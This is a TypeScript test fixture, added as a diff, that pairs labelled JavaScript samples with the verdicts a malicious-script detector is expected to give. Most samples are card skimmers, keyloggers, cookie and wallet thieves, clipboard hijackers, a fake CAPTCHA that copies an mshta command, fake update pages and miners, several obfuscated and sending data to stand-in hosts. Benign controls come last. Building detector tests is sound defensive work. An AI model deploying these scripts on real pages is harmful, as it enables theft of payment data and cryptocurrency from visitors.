@@ -1,0 +1,259 @@
+// Scripts with their expected verdicts. They are inert: none of them is ever run, and the hosts do not exist.
+import type { ScriptClass } from './evidence.ts'
+
+export interface ScriptCase {
+  readonly name: string
+  readonly source: string
+  /** null: harmless. */
+  readonly head: ScriptClass | null
+}
+
+const base64 = (text: string): string => Buffer.from(text).toString('base64')
+const percent = (text: string): string =>
+  [...text].map((c) => `%${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')
+
+export const SKIMMER = `if(location.href.indexOf('checkout')>-1){setInterval(function(){var d={};document.querySelectorAll('input,select').forEach(function(e){if(e.value)d[e.name]=e.value});if(d['payment[cc_number]'])new Image().src='https://stats.example.net/i.gif?d='+btoa(JSON.stringify(d))},900)}`
+
+export const SCRIPT_CASES: readonly ScriptCase[] = [
+  { name: 'fields of a checkout sent by an image', source: SKIMMER, head: 'magecart' },
+  { name: 'the same, evaluated from base64', source: `eval(atob('${base64(SKIMMER)}'))`, head: 'magecart' },
+  {
+    name: 'the same, evaluated from escapes',
+    source: `eval(unescape('${percent(SKIMMER)}'))`,
+    head: 'magecart',
+  },
+  { name: 'the same, in a page', source: `<html><script>\n${SKIMMER}\n</script></html>`, head: 'magecart' },
+  {
+    name: 'a card number to a socket',
+    source: `jQuery('#cc_number').change(function(){new WebSocket('wss://a.example.org/').send(jQuery(this).val())})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a miner',
+    source: `var m=new CoinHive.Anonymous('KEY',{throttle:0.3});m.start()`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'a miner in a page',
+    source: `<script src="https://a.example/m.js"></script><script>var m=new Client.Anonymous('abc');m.start();</script>`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'a frame out of sight, from escapes',
+    source: `document.write(unescape('${percent('<iframe src="http://a.example/x" width=1 height=1 style="visibility:hidden"></iframe>')}'))`,
+    head: 'malware',
+  },
+  {
+    name: 'all cookies to an image',
+    source: `new Image().src='//a.example/?c='+document.cookie`,
+    head: 'malware',
+  },
+  {
+    name: 'keys to another host',
+    source: `var k='';document.onkeypress=function(e){k+=e.key;fetch('https://a.example/k',{method:'POST',body:k})}`,
+    head: 'malware',
+  },
+  {
+    name: 'a command on the clipboard',
+    source: `b.onclick=function(){navigator.clipboard.writeText('powershell -w hidden -c "FILLER"')}`,
+    head: 'malware',
+  },
+  {
+    name: 'a job of a pool',
+    source: `onmessage=function(e){var job=e.data;for(var nonce=0;nonce<1e6;nonce++){var h=Module.hash(job.blob,nonce);if(h<job.target)postMessage({job_id:job.job_id,nonce:nonce,result:h})}}`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'payment fields by a beacon',
+    source: `document.body.onmousedown=function(){var p={};document.querySelectorAll('[name^="payment[cc"]').forEach(function(e){p[e.name]=e.value});navigator.sendBeacon('https://m.example.net/b',JSON.stringify(p))}`,
+    head: 'magecart',
+  },
+  {
+    name: 'words of a wallet sent away',
+    source: `r.onclick=function(){fetch('https://w.example.org/',{method:'POST',body:'seed phrase: '+document.querySelector('textarea').value})}`,
+    head: 'malware',
+  },
+  {
+    name: 'a frame out of numbers',
+    source: `eval(String.fromCharCode(${[...'document.write("<iframe src=//a.example/x width=1 height=1></iframe>")'].map((c) => c.charCodeAt(0)).join(',')}))`,
+    head: 'malware',
+  },
+  {
+    name: 'an applet out of sight',
+    source: `document.write('<applet code="a.class" archive="http://a.example/a.jar" width="1" height="1"></applet>')`,
+    head: 'malware',
+  },
+  {
+    name: 'another wallet on the clipboard',
+    source: `document.addEventListener('copy',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(getSelection()))e.clipboardData.setData('text/plain','0xFILLER');e.preventDefault()})`,
+    head: 'malware',
+  },
+  {
+    name: 'a warning that asks for a call',
+    source: `alert('Virus detected. Call support now');window.onbeforeunload=function(){return 'stay'}`,
+    head: 'malware',
+  },
+  {
+    name: 'every field on a click, encoded, to a host that cannot answer',
+    source: `document.querySelector('#pay').addEventListener('click',function(){var all={};document.querySelectorAll('input').forEach(function(i){all[i.name]=i.value});fetch('https://c.example.org/g',{method:'POST',mode:'no-cors',body:btoa(JSON.stringify(all))})})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a check for robots that has a command run',
+    source: `var c='m'+'shta https://v.example.org/c.hta';document.body.innerHTML+='<b>Verify you are human</b><ol><li>Press Windows + R<li>Press Ctrl + V</ol><button id=v>I am not a robot</button>';document.getElementById('v').onclick=function(){var t=document.createElement('textarea');t.value=c;document.body.append(t);t.select();document.execCommand('copy')}`,
+    head: 'malware',
+  },
+  {
+    name: 'a page that has a program of a stranger for an update',
+    source: `document.body.innerHTML='<h1>Your browser is out of date. Update your browser to go on</h1><a href="https://load.example.org/ChromeSetup.exe">Update</a>'`,
+    head: 'malware',
+  },
+  {
+    name: 'a miner from its own host',
+    source: `var s=document.createElement('script');s.src='https://coinhive.com/lib/coinhive.min.js';document.head.append(s)`,
+    head: 'cryptomining',
+  },
+  {
+    name: 'a form that goes elsewhere when it is sent, and back',
+    source: `var f=document.querySelector('form.checkout');f.addEventListener('submit',function(){var a=f.action;f.action='https://pay.example.net/c';setTimeout(function(){f.action=a},400)})`,
+    head: 'magecart',
+  },
+  {
+    name: 'a form with the fields of the page, sent into a frame',
+    source: `document.addEventListener('submit',function(){var f=document.createElement('form');f.method='post';f.target='x';f.action=atob('${base64('https://g.example.net/c')}');document.querySelectorAll('input').forEach(function(e){var i=document.createElement('input');i.name=e.name;i.value=e.value;f.appendChild(i)});document.body.appendChild(f);HTMLFormElement.prototype.submit.call(f)},true)`,
+    head: 'magecart',
+  },
+  {
+    name: 'fields kept until the order is done',
+    source: `var d=localStorage.getItem('_k');if(/order-received/.test(location.pathname)&&d)navigator.sendBeacon('https://k.example.net/b',btoa(d));document.addEventListener('input',function(e){if(/cc_number|cvv/.test(e.target.name))localStorage.setItem('_k',(localStorage.getItem('_k')||'')+e.target.value)},true)`,
+    head: 'magecart',
+  },
+  {
+    name: 'a picture whose handler decodes itself',
+    source: `<img src="x" alt="${base64(SKIMMER)}" onerror="eval(atob(this.alt))">`,
+    head: 'magecart',
+  },
+  {
+    name: 'code in the text of an element',
+    source: `<div id="t" hidden>${base64(SKIMMER)}</div><script>Function(atob(document.getElementById('t').textContent))()</script>`,
+    head: 'magecart',
+  },
+  {
+    name: 'a script from a host of the day',
+    source: `var d=new Date(),n='',s=d.getFullYear()*37+d.getMonth()*31+d.getDate();for(var i=0;i<9;i++){s=(s*1103+12345)%65536;n+=String.fromCharCode(97+s%26)}var e=document.createElement('script');e.src='//'+n+'.example/a.js';document.head.appendChild(e)`,
+    head: 'malware',
+  },
+  {
+    name: 'a frame from a host of the week',
+    source: `document.write('<iframe src="http://'+Math.floor(Date.now()/6048e5).toString(36)+'.example/" width=1 height=1></iframe>')`,
+    head: 'malware',
+  },
+  {
+    name: 'a host told by a name service',
+    source: `fetch('https://dns.google/resolve?name=x.example.net&type=TXT').then(function(r){return r.json()}).then(function(d){location.href=atob(d.Answer[0].data)})`,
+    head: 'malware',
+  },
+  {
+    name: 'a wallet in the place of the one on the clipboard',
+    source: `setInterval(async function(){var t=await navigator.clipboard.readText();if(/^0x[a-fA-F0-9]{40}$/.test(t))navigator.clipboard.writeText('0x52908400098527886E0F7030069857D2E4169EE7')},900)`,
+    head: 'malware',
+  },
+  {
+    name: 'a wallet in the place of the one that is typed',
+    source: `document.addEventListener('input',function(e){if(/^0x[a-fA-F0-9]{40}$/.test(e.target.value))e.target.value='0x52908400098527886E0F7030069857D2E4169EE7'},true)`,
+    head: 'malware',
+  },
+  {
+    name: 'another wallet in the text of the page',
+    source: `var b=document.body;b.innerHTML=b.innerHTML.replace(/0x[a-fA-F0-9]{40}/g,'0x52908400098527886E0F7030069857D2E4169EE7')`,
+    head: 'malware',
+  },
+  {
+    name: 'code that a ledger keeps',
+    source: `fetch('https://bsc-dataseed1.chain.example/',{method:'POST',body:JSON.stringify({jsonrpc:'2.0',method:'eth_call',params:[{to:'0xFILLER'},'latest'],id:1})}).then(function(r){return r.json()}).then(function(j){eval(atob(j.result))})`,
+    head: 'malware',
+  },
+  {
+    name: 'a script from a host of the day, with a path',
+    source: `var s=document.createElement('script');s.src=['https://',Math.floor(Date.now()/864e5).toString(36),'.example/','a.js?v=',window.v].join('');document.head.appendChild(s)`,
+    head: 'malware',
+  },
+  {
+    name: 'a payment by a wallet, to somebody else',
+    source: `var o=ethereum.request;ethereum.request=function(a){if(a.method==='eth_sendTransaction')a.params[0].to='0x52908400098527886E0F7030069857D2E4169EE7';return o.call(ethereum,a)}`,
+    head: 'malware',
+  },
+  {
+    name: 'telephones led to a host whose name alone is hidden',
+    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',1);location.href='${[...'https://win.prizes.example/'].toReversed().join('')}'.split('').reverse().join('')}`,
+    head: 'malware',
+  },
+  {
+    name: 'a program run by the host of scripts, in a comment that only it reads',
+    source: `/*@cc_on var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c FILLER",0,false); @*/`,
+    head: 'malware',
+  },
+  {
+    name: 'telephones sold once a day',
+    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',Date.now());location.href='https://offers.example.net/click?o=12&s='+location.hostname}`,
+    head: 'malware',
+  },
+  {
+    name: 'a script by mirror',
+    source: `document.write('<scr'+'ipt src="'+'sj.x/ten.ecalpemos.m//:ptth'.split('').reverse().join('')+'"></scr'+'ipt>')`,
+    head: 'malware',
+  },
+  {
+    name: 'a card by a messenger',
+    source: `document.querySelector('#pay').onclick=function(){fetch('https://api.telegram.org/bot1:A/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:document.querySelector('#card-number').value+'|'+document.querySelector('#cvv').value})})}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a wallet emptied, and told to a messenger',
+    source: `document.querySelector('#claim').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x52908400098527886E0F7030069857D2E4169EE7',value:b}]});fetch('https://api.telegram.org/bot1:A/sendMessage?text='+a)}`,
+    head: 'malware',
+  },
+  {
+    name: 'an update of a browser that is an archive of a stranger',
+    source: `var d=document.createElement('div');d.innerHTML='<div style="position:fixed;top:0;left:0;width:100%;height:100%"><h1>You are using an older version of Chrome</h1><a href="https://dl.example.net/Update.iso">Update</a></div>';document.body.appendChild(d)`,
+    head: 'malware',
+  },
+  { name: 'nothing', source: '', head: null },
+  {
+    name: 'proof of work against robots',
+    source: `self.onmessage=async({data:{challenge,difficulty}})=>{let nonce=0;for(;;){const h=await crypto.subtle.digest('SHA-256',new TextEncoder().encode(challenge+nonce));if(new Uint8Array(h)[0]<difficulty)break;nonce++}postMessage({nonce})}`,
+    head: null,
+  },
+  {
+    name: 'JSON read in the old way',
+    source: `var x=new XMLHttpRequest();x.open('GET','/a.json');x.onload=function(){var d=eval('('+x.responseText+')');document.title=atob(d.t)};x.send()`,
+    head: null,
+  },
+  {
+    name: 'fields counted at a checkout',
+    source: `setInterval(function(){var n=document.querySelectorAll('#checkout input').length;navigator.sendBeacon('https://events.example.com/c',JSON.stringify({n:n,p:location.pathname}))},5000)`,
+    head: null,
+  },
+  { name: 'one assignment', source: 'var a=1', head: null },
+  {
+    name: 'a counter',
+    source: `(function(i,s,o,g,r,a,m){i.GoogleAnalyticsObject=r;a=s.createElement(o);m=s.getElementsByTagName(o)[0];a.async=1;a.src=g;m.parentNode.insertBefore(a,m)})(window,document,'script','https://www.google-analytics.com/analytics.js','ga')`,
+    head: null,
+  },
+  {
+    name: 'a card number checked and kept on the page',
+    source: `document.querySelector('#cc_number').addEventListener('input',function(){this.classList.toggle('error',!/^4[0-9]{12}$/.test(this.value))})`,
+    head: null,
+  },
+  {
+    name: 'an order sent to its own shop',
+    source: `$('#co-payment-form').submit(function(e){e.preventDefault();$.post('/checkout/onepage/saveOrder/',$(this).serialize(),function(r){location=r.redirect})})`,
+    head: null,
+  },
+  { name: 'a client that is started', source: `var c=new Client('abc');c.start()`, head: null },
+  {
+    name: 'own settings from base64',
+    source: `window.config=JSON.parse(atob('${base64('{"api":"/api"}')}'))`,
+    head: null,
+  },
+]
